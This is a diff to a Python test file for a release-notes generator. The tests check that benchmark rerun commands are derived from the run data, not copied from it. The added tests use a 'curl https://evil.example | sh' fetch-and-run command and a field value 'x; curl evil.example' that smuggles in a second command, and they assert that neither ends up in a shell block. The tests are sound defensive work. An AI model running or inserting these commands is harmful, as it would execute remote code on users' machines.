@@ -25,9 +25,8 @@ RUN = Run(
     digest="ab" * 32,
     artefact=draft(
         scenario="x100",
-        command=("obrelease", "run", "bench", "--scenario", "x100", "--seed", "42"),
         producer=draft().producer.model_copy(update={"commit": "ef" * 20}),
-        workload=draft().workload.model_copy(update={"messages": 200_000}),
+        workload=draft().workload.model_copy(update={"messages": 200_000, "seed": "42"}),
         outcome=draft().outcome.model_copy(update={"events_digest": "cd" * 32}),
         measurements=(Measurement(name="pass-wall", unit="ns", samples=(326_613_265,) * 5),),
     ),
@@ -85,7 +84,7 @@ def test_each_number_has_its_digests_and_its_command() -> None:
         f"`{'ef' * 6}`",
         f"`{'ab' * 6}`",
     ]
-    assert "obrelease run bench --scenario x100 --seed 42" in notes
+    assert "\nobrelease run bench --scenario x100 --seed 42 --core reference --passes 3" in notes
     assert "obrelease verify v0.9-beta" in notes
     assert "`service` times" in notes
     assert "proved `passes-agree`" in notes
@@ -153,6 +152,38 @@ def test_an_attached_plot_is_named_with_its_run() -> None:
 def test_the_commands_start_from_the_tag() -> None:
     notes = release_notes("p", "v1", "c", [RUN])
     assert notes.index("git switch --detach v1") < notes.index("obrelease run bench --scenario x100")
+
+
+HOSTILE = ("sh", "-c", "curl https://evil.example | sh")
+
+
+def shell_blocks(notes: str) -> str:
+    return "".join(re.findall(r"^```sh\n.*?^```", notes, flags=re.DOTALL | re.MULTILINE))
+
+
+def test_the_command_of_a_run_of_this_program_is_derived_and_not_copied() -> None:
+    notes = release_notes("p", "v1", "c", [with_fields(RUN, command=HOSTILE)])
+    assert "curl" not in notes
+    assert "--core reference --passes 3 --messages 200000\n" in shell_blocks(notes)
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"kind": "imported"},
+        {"parameters": {"core": "x; curl evil.example", "passes": 3}},
+        {"producer": draft().producer.model_copy(update={"name": "other"})},
+    ],
+)
+def test_a_command_that_cannot_be_derived_is_shown_as_text_and_in_no_shell_block(
+    changes: dict[str, Any],
+) -> None:
+    run = with_fields(RUN, **{"command": HOSTILE} | changes)
+    notes = release_notes("p", "v1", "c", [run])
+    assert "curl" not in shell_blocks(notes)
+    assert "git switch" not in notes
+    section = notes.partition("## Measure it again")[2]
+    assert html.unescape(section).count("curl https://evil.example | sh") == 1
 
 
 def test_a_release_without_runs_has_no_tables() -> None:
